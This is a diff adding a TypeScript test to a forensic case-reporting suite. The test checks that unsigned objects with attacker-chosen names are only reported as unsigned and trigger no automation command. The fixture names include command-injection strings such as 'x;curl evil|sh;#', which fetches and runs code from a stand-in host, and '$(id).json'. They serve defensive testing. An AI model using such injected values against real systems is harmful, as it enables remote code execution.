@@ -195,6 +195,21 @@ describe("the report of a case", () => {
       );
     });
 
+    it("an unsigned object whose name is not its hash, without a command: somebody else chose its name", () => {
+      const { records } = new Case(TICKET);
+      for (const name of ["x;curl evil|sh;#", "$(id).json", `${"0".repeat(64)}.json`]) {
+        const facts = withObjects((versions) => [...versions, object(records + name, "{}", 7)]);
+        wrong(facts, "bytes");
+        const report = caseOf(facts);
+        const said = report.checks.find(({ id }) => id === "signatures")?.findings ?? [];
+        assert.deepEqual(
+          said.map((each) => each.said),
+          ["It is unsigned."],
+        );
+        assert.doesNotMatch(JSON.stringify(report), /start-automation-execution/);
+      }
+    });
+
     it("a forged record of a copy that EC2 does not have so", () => {
       const forged = (preserved: Partial<typeof EVIDENCE.preserved>) =>
         withObjects((versions) => [
